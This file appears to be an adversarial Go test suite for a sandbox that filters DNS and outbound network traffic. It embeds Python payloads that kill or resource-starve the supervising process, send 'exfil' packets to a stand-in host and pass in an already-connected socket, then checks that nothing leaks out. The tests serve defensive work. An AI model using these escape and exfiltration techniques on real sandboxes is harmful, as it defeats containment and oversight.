//go:build adversary

package tests

import (
	"os"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// above finds the keeper and the supervisor.
const above = `import os, resource, signal, socket, sys
def parent(pid): return int([l for l in open("/proc/%d/status" % pid) if l.startswith("PPid")][0].split()[1])
keeper = os.getppid(); supervisor = parent(keeper)
def ask(name):
    try: return socket.gethostbyname(name)
    except OSError as e: return "failed"
`

// The tree may lower the supervisor's limits, as it may kill it. Nothing is answered then that cannot be recorded, and the run ends.
func TestAdversaryLimitsOfTheSupervisor(t *testing.T) {
	const lower = above + `
print(ask("a.corp.test")); sys.stdout.flush()
limit = getattr(resource, sys.argv[1]); resource.prlimit(supervisor, limit, (0, 0))
print(ask("alias.corp.test"), ask("exfil.corp.test"))
for port in 53, 443:
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("10.9.8.1", port))
    except OSError: pass`
	o := newOutside(t)
	for _, limit := range []string{"RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_STACK", "RLIMIT_MEMLOCK", "RLIMIT_CPU", "RLIMIT_SIGPENDING"} {
		t.Run(limit, func(t *testing.T) {
			log := o.path(limit)
			flags := []string{"--quiet", "--audit", log, "--allow", "**.corp.test", "--deny", "exfil.corp.test", "--upstream", "udp://127.0.0.1", "--"}
			got := o.run(append(flags, "/usr/bin/python3", "-c", lower, limit)...)
			if !strings.HasPrefix(got.stdout, "192.0.2.1\n") || limit == "RLIMIT_FSIZE" && got.stdout != "192.0.2.1\nfailed failed\n" {
				t.Errorf("%+v", got)
			}
			if strings.Contains(got.stdout, "192.0.2.10") {
				text, err := os.ReadFile(log)
				must(t, err)
				if !strings.Contains(string(text), `"alias.corp.test"`) {
					t.Errorf("answered, and not in the log: %s", text)
				}
			}
		})
	}
	for _, packet := range o.captured() {
		if !question.MatchString(packet) || strings.Contains(strings.ToLower(packet), "exfil") {
			t.Errorf("got out: %s", packet)
		}
	}
}

// Who stops the keeper and kills the supervisor is left alone, with a network that leads nowhere: SECURITY.md, promise 5.
func TestAdversaryWithoutASupervisor(t *testing.T) {
	const alone = above + `
print(keeper); sys.stdout.flush()
before = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); before.connect(("10.9.8.1", 53))
gone = os.pidfd_open(supervisor)
os.kill(keeper, signal.SIGSTOP); os.kill(supervisor, signal.SIGKILL)
import select; select.select([gone], [], [])
def attempt(f):
    try: f(); return "sent"
    except OSError as e: return e.strerror
for port in 53, 443:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print(attempt(lambda: s.sendto(b"exfil", ("10.9.8.1", port))), attempt(lambda: s.connect(("10.9.8.1", port))), attempt(lambda: s.send(b"exfil")))
for i in range(3): print(attempt(lambda: before.send(b"exfil")))
print("done"); sys.stdout.flush()`
	o := newOutside(t)
	cmd := o.enter(binary, "--quiet", "--", "/usr/bin/python3", "-c", alone)
	lines := startLines(t, cmd)
	keeper := 0
	for _, c := range line(t, lines) {
		keeper = keeper*10 + int(c-'0')
	}
	t.Cleanup(func() { _ = unix.Kill(keeper, unix.SIGKILL) })
	for range 2 {
		if got := line(t, lines); got != "Function not implemented Function not implemented Destination address required" {
			t.Errorf("%q", got)
		}
	}
	await(t, lines, "done")
	o.silent(t)
}

// A socket that somebody outside has connected and hands in is theirs: SECURITY.md says that it passes, and that --unix=none keeps it out.
func TestAdversaryHandedSockets(t *testing.T) {
	const give = `import socket, sys; u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(); print("listening", flush=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("10.9.8.1", 53))
while True: c = u.accept()[0]; socket.send_fds(c, [b"x"], [s.fileno()]); c.recv(1)`
	const take = `import os, socket, sys
try:
    u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); s = socket.recv_fds(u, 1, 1)[1][0]
    print("sent", os.write(s, b"\x05exfil\x04corp\x04test"))
except OSError as e: print(e.strerror)`
	for flag, want := range map[string]string{"--unix=none": "Address family not supported by protocol\n", "--unix=guard": "sent 16\n"} {
		o := newOutside(t)
		await(t, startLines(t, o.enter("python3", "-c", give, o.path("door"))), "listening")
		got := o.run("--quiet", flag, "--", "/usr/bin/python3", "-c", take, o.path("door"))
		if got.stdout != want {
			t.Errorf("%s: %+v", flag, got)
		}
		if flag == "--unix=none" {
			o.silent(t)
		}
	}
}
